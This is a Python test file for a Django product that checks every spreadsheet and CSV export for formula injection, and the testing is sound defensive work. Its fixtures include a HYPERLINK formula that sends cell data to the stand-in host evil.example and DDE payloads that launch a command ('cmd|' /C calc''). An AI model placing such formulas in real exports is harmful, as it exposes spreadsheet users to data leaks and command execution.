"""Every spreadsheet and CSV the product writes, with hostile text in every field (issue 8 §3).

The exports are found, not listed: every text field of every record in the permission matrix's
world is set to a formula, then every URL is fetched as each role that reads the records (PDFs
aside), and every answer that is a workbook or a CSV is opened. No cell may be a formula, and a
text that begins like one must be stored as text (a workbook's quote prefix, a CSV's apostrophe).
A second test keeps every writer in ``cqo.core.exports``, so a later module cannot write a
workbook of its own that skips the check.
"""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from django.core.cache import cache
from django.db import models, transaction

import cqo
from cqo.core.exports import DANGEROUS_LEADS
from cqo.testing.matrix import ANONYMOUS, World, routes, url_for

from .matrix import EXPECTED, expected, kwargs_for, world_build

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LEADS = [HOSTILE, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
SPREADSHEET_TYPES = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",)
CSV_TYPES = ("text/csv",)
READERS = ("principal", "cqo", "auditor", "admin")
# Text fields the product reads as keys rather than as words (a tree path, a code, a hash, a
# void reason that marks a record voided): a formula there would change who sees what.
STRUCTURAL = {
    "password", "path", "code", "region_code", "industry_code", "void_reason", "object_id",
    "content_hash", "capacity", "decided_as", "url", "clause", "basis",
}  # fmt: skip


def _poison_every_text_field() -> int:
    """Put a formula into every free-text field of every record of ours (not the audit trail)."""
    written = 0
    for model in apps.get_models():
        if not model.__module__.startswith("cqo.") or model._meta.app_label == "audit":
            continue
        for index, fld in enumerate(model._meta.concrete_fields):
            if (
                not isinstance(fld, models.CharField | models.TextField)
                or fld.choices
                or fld.unique
                or fld.primary_key
                or fld.name in STRUCTURAL
            ):
                continue
            value = LEADS[index % len(LEADS)]
            if fld.max_length:
                value = value[: fld.max_length]
            try:
                with transaction.atomic():
                    written += model._base_manager.update(**{fld.name: value})
            except Exception:  # noqa: S112 (a constraint or a guarded queryset: skip the field)
                continue
    return written


def _xlsx_problems(url: str, data: bytes) -> tuple[list[str], list[str]]:
    problems: list[str] = []
    texts: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        styles = archive.read("xl/styles.xml").decode()
        cell_xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
        xfs = re.findall(r"<xf\b[^>]*>", cell_xfs.group(1) if cell_xfs else "")
        quoted = {i for i, xf in enumerate(xfs) if 'quotePrefix="1"' in xf}
        for name in archive.namelist():
            if not name.startswith("xl/worksheets/") or not name.endswith(".xml"):
                continue
            sheet = archive.read(name).decode()
            if "<f>" in sheet or "<f " in sheet:
                problems.append(f"{url}: {name} holds a formula")
            # An empty text cell is written self-closing (<c r="L2" t="inlineStr" />): it must not
            # swallow the next cell's text, or the next cell's mark is judged against this one.
            for attrs, body in re.findall(r"<c\b([^>]*?)(?:/>|>(.*?)</c>)", sheet, re.S):
                text = html.unescape("".join(re.findall(r"<t[^>]*>(.*?)</t>", body, re.S)))
                if not text:
                    continue
                texts.append(text)
                style = re.search(r'\bs="(\d+)"', attrs)
                if text.startswith(DANGEROUS_LEADS) and (
                    style is None or int(style.group(1)) not in quoted
                ):
                    problems.append(f"{url}: {name} cell {attrs.strip()} is not marked as text")
    return problems, texts


def _csv_problems(url: str, data: bytes) -> tuple[list[str], list[str]]:
    problems: list[str] = []
    texts: list[str] = []
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        for value in row:
            texts.append(value)
            if value.startswith(DANGEROUS_LEADS):
                problems.append(f"{url}: CSV field {value[:30]!r} would run as a formula")
    return problems, texts


@pytest.fixture
def world(db: Any) -> World:
    # Its own world, not the matrix's module-wide one: this test rewrites every text field.
    cache.clear()
    return world_build()


def test_every_export_writes_hostile_text_as_text(world: World) -> None:
    assert _poison_every_text_field() > 0
    problems: list[str] = []
    exports: set[str] = set()
    texts: list[str] = []
    for route in routes():
        if route.name not in EXPECTED or "pdf" in route.name:
            continue
        url = url_for(route, kwargs_for(route, world))
        for who in READERS:
            if expected(route.name, who) != 200 or who == ANONYMOUS:
                continue
            response = world.client(who).get(url)
            kind = response.get("Content-Type", "").split(";")[0].strip()
            if kind in SPREADSHEET_TYPES:
                found, seen = _xlsx_problems(url, response.content)
            elif kind in CSV_TYPES:
                found, seen = _csv_problems(url, response.content)
            else:
                continue
            exports.add(route.name)
            problems += found
            texts += seen
    # The walk must have found the exports we know of, and the hostile text must have reached
    # them: otherwise this test would pass by looking at nothing.
    assert {"post:filing_xlsx", "post:filing_xlsx_all"} <= exports, exports
    assert any(name.startswith("api:") for name in exports), exports
    assert not problems, "\n" + "\n".join(sorted(set(problems)))
    assert HOSTILE in texts, "the hostile job title or address never reached a workbook"


WRITERS = re.compile(
    r"\bWorkbook\s*\(|\bcsv\.(writer|DictWriter)\b|\bxlsxwriter\b|\.save\(\s*out\s*\)|"
    r"from openpyxl import[^\n]*\bWorkbook\b"
)


def test_no_module_writes_a_workbook_or_a_csv_without_the_export_helper() -> None:
    root = Path(cqo.__file__).parent
    helper = root / "core" / "exports.py"
    offenders = []
    for path in root.rglob("*.py"):
        if path == helper or "tests" in path.relative_to(root).parts:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if WRITERS.search(line):
                offenders.append(f"{path.relative_to(root)}:{number}: {line.strip()}")
    assert not offenders, (
        "Write spreadsheets and CSV files through cqo.core.exports (it neutralises formulas):\n"
        + "\n".join(offenders)
    )


def test_the_helper_keeps_numbers_and_neutralises_text_in_a_csv() -> None:
    from cqo.core.exports import csv_bytes

    data = csv_bytes([[HOSTILE, "+86 23 6000", -5, 2.5, "plain"]], header=["a", "b", "c", "d", "e"])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + HOSTILE, "'+86 23 6000", "-5", "2.5", "plain"]


def test_a_cell_set_directly_is_neutralised_when_the_workbook_is_written() -> None:
    from cqo.core.exports import workbook_new, xlsx_bytes

    wb = workbook_new()
    ws = wb.active
    assert ws is not None
    ws.cell(row=1, column=1).value = HOSTILE
    ws.cell(row=1, column=2).value = -3
    problems, texts = _xlsx_problems("direct", xlsx_bytes(wb))
    assert not problems and HOSTILE in texts


def test_rows_appended_by_the_helper_keep_their_order_numbers_and_neutralised_text() -> None:
    from openpyxl import load_workbook

    from cqo.core.exports import sheet_append, workbook_new, xlsx_bytes

    wb = workbook_new()
    ws = wb.active
    assert ws is not None
    sheet_append(ws, ["header", "n"])
    for i in range(3):
        sheet_append(ws, [HOSTILE if i == 1 else f"row {i}", i])
    problems, texts = _xlsx_problems("appended", xlsx_bytes(wb))
    assert not problems and HOSTILE in texts
    read = load_workbook(io.BytesIO(xlsx_bytes(wb))).active
    assert read is not None
    assert [[c.value for c in row] for row in read.iter_rows()] == [
        ["header", "n"], ["row 0", 0], [HOSTILE, 1], ["row 2", 2]
    ]  # fmt: skip
